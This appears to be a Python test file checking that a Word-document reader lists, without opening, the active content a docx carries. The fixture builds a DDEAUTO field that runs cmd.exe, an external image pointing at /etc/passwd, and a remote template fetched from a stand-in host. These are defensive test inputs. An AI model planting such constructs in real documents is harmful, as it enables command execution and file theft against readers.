"""What a Word document would run, load or ask for: listed, never opened."""

from __future__ import annotations

from builders.docx import docx, field, p, read, t


def test_what_reaches_outside_is_listed_and_not_opened() -> None:
    body = p(
        field('DDEAUTO c:\\\\x\\\\cmd.exe "/c calc"', t("!")),
        "<w:r><w:drawing><wp:inline><a:blip r:link='r2'/></wp:inline></w:drawing></w:r>",
    )
    rels = [("r2", "image", "file:///etc/passwd", "External"), ("r3", "subDocument", "http://x.example/y", "External")]
    settings = {"word/settings.xml": "<w:settings xmlns:w='x'/>"}
    settings["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    document = read(docx(body, rels=rels, more=settings))
    kinds = {(a.type, a.detail) for a in document.active_content}
    assert ("external_image", "file:///etc/passwd") in kinds
    assert ("external_template", "http://evil.example/t.dotm") in kinds
    assert ("external_link", "http://x.example/y") in kinds
    assert any(kind == "dde" and "cmd.exe" in detail for kind, detail in kinds)
    assert [(i.external, i.bytes) for i in document.images] == [("file:///etc/passwd", None)]
